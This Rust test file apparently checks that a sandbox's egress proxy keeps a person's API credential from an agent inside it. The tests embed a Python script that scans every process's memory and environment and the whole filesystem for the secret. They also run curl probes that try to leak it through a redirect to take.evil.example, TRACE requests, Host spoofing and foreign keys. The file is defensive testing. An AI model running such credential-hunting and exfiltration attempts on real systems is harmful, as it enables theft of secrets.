//! The person's credential, looked for in the bottle and lured out of it.

use super::world::{FREE, MODEL, PAID, World, part};

/// Looks at everything that can be read: files, environments, arguments, and the memory of every process that can be opened.
const SEARCH: &str = r#"
import os, re, stat, sys
mark = re.compile(b"cana" + b"ry-world|Y2FuYXJ5LXdvcm" + b"xk|63616e6172792d776f7" + b"26c64")
own = os.getpid()
def look(path, reader):
    try:
        if mark.search(reader()):
            print("found in", path)
    except (OSError, ValueError, OverflowError):
        pass
def memory(process):
    for line in open(f"/proc/{process}/maps"):
        span, mode = line.split()[:2]
        if mode.startswith("r"):
            low, high = (int(end, 16) for end in span.split("-"))
            with open(f"/proc/{process}/mem", "rb", 0) as file:
                file.seek(low)
                yield file.read(high - low)
def remembered(process):
    for part in memory(process):
        yield part
for process in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "comm", "status"):
        look(f"/proc/{process}/{name}", lambda: open(f"/proc/{process}/{name}", "rb").read())
    if int(process) != own:
        try:
            for part in remembered(process):
                if mark.search(part):
                    print("found in the memory of", process)
        except (OSError, ValueError, OverflowError):
            pass
looked = 0
for folder, folders, files in os.walk("/"):
    folders[:] = [name for name in folders if os.path.join(folder, name) not in ("/proc", "/usr", "/nix", "/gnu")]
    for name in files:
        path = os.path.join(folder, name)
        try:
            if stat.S_ISREG(os.lstat(path).st_mode):
                looked += 1
                look(path, lambda: open(path, "rb").read())
        except OSError:
            pass
print("looked at files" if looked > 20 else "saw nothing")
"#;

#[test]
fn the_credential_is_nowhere_in_the_bottle() {
    let Some(world) = World::open() else { return };
    let mut live = world.scene.live(&format!(
        "cd; curl -sS -D headers -o answer -H 'Authorization: Bearer sk-of-nobody' https://{PAID}/x && curl -sS http://policy.bottle.internal/ > policy
         curl -sS http://policy.bottle.internal/policy.json > policy.json; echo ready; cat"
    ));
    world.origin.wait("the paid request", |requests| requests.len() == 1);
    assert_eq!(world.origin.requests()[0].header("authorization"), Some(&*format!("Bearer {}", world.canary)));
    for user in ["node", "root"] {
        let exec = ["exec", "s", "--user", user, "--", "/usr/bin/python3", "-I", "-c", SEARCH];
        let ran = world.scene.run(&exec);
        assert_eq!((ran.code, ran.stdout.as_str()), (0, "looked at files\n"), "as {user}: {ran:?}");
        assert!(!world.written(&ran).contains(&world.canary));
    }
    live.close_stdin();
    let (status, stderr) = live.end();
    assert!(status == Some(0) && !stderr.contains(&world.canary), "{stderr}");
}

#[test]
fn the_credential_is_not_lured_out() {
    let Some(world) = World::open() else { return };
    let script = format!(
        "try() {{ echo \"== $1\"; shift; curl -s -m 60 -o /dev/null -w '%{{http_code}}\\n' \"$@\"; }}
         try trace -X TRACE https://{PAID}/x
         try track -X TRACK https://{PAID}/x
         try 'to a host that is not allowed' -L 'https://{PAID}/redirect?https://take.evil.example/'
         try 'to another host' -L --location-trusted -H 'Authorization: Bearer mine' 'https://{PAID}/redirect?https://{FREE}/taken'
         try 'another port' https://{PAID}:8443/x
         try 'in the name of another' -H 'Host: {FREE}' https://{PAID}/x
         try 'by the other name' -H 'Host: {PAID}' https://{FREE}/x
         echo '== end'"
    );
    let ran = world.scene.script(&script);
    let expected = [
        ("trace", "403", "egress.request TRACE paid.example.org proxy"),
        ("track", "403", "egress.request TRACK paid.example.org proxy"),
        ("to a host that is not allowed", "000", "egress.host CONNECT take.evil.example:443 proxy"),
        ("to another host", "200", ""),
        ("another port", "000", "egress.port CONNECT paid.example.org:8443 proxy"),
        ("in the name of another", "421", "egress.authority GET free.example.org proxy"),
        ("by the other name", "421", "egress.authority GET paid.example.org proxy"),
    ];
    let refusals = world.refusals();
    for (name, status, recorded) in expected {
        assert_eq!(part(&ran.stdout, name), status, "{name}: {ran:?}");
        let count = refusals.iter().filter(|refusal| *refusal == recorded).count();
        assert_eq!(count, usize::from(!recorded.is_empty()), "{name}: {refusals:#?}");
    }
    // What went to the host that nobody pays at carried what the agent had, and nothing of the person's.
    let requests = world.origin.requests();
    let taken: Vec<_> = requests.iter().filter(|request| request.line() == "GET /taken").collect();
    assert_eq!(taken.len(), 1, "{requests:#?}");
    assert_eq!(taken[0].header("authorization"), Some("Bearer mine"));
    assert!(requests.iter().all(|request| request.header("host") != Some(FREE) || !request.everything().contains(&world.canary)));
    assert!(!world.written(&ran).contains(&world.canary));
}

/// The model's host is allowed, and only for the person's own account.
#[test]
fn a_foreign_credential_does_not_reach_the_model() {
    let Some(world) = World::open().map(World::with_a_model) else { return };
    let script = format!(
        "try() {{ echo \"== $1\"; shift; curl -s -m 60 -o /dev/null -w '%{{http_code}}\\n' \"$@\" https://{MODEL}/v1/messages; }}
         try theirs -H 'x-api-key: sk-ant-of-somebody-else'
         try 'as a bearer' -H 'Authorization: Bearer sk-ant-of-somebody-else'
         try 'beside ours' -H \"x-api-key: $ANTHROPIC_API_KEY\" -H 'Authorization: Bearer sk-ant-of-somebody-else'
         try 'in one header' -H \"Authorization: Bearer sk-ant-of-somebody-else $ANTHROPIC_API_KEY\"
         try 'as a cookie' -b session=of-somebody-else
         try placeholder -H \"x-api-key: $ANTHROPIC_API_KEY\"
         echo '== held'; echo $ANTHROPIC_API_KEY"
    );
    let ran = world.scene.script(&script);
    for name in ["theirs", "as a bearer", "beside ours", "in one header", "as a cookie"] {
        assert_eq!(part(&ran.stdout, name), "403", "{name}: {ran:?}");
    }
    assert_eq!(world.refusals(), vec![format!("egress.foreign_credential GET {MODEL} proxy"); 5]);
    assert_eq!(part(&ran.stdout, "placeholder"), "200", "{ran:?}");
    assert!(!part(&ran.stdout, "held").is_empty() && part(&ran.stdout, "held") != world.canary);
    let requests = world.origin.requests();
    let [paid] = &requests[..] else { panic!("{requests:#?}") };
    assert_eq!(paid.header("x-api-key"), Some(&*world.canary));
    assert!(!world.written(&ran).contains(&world.canary));
}
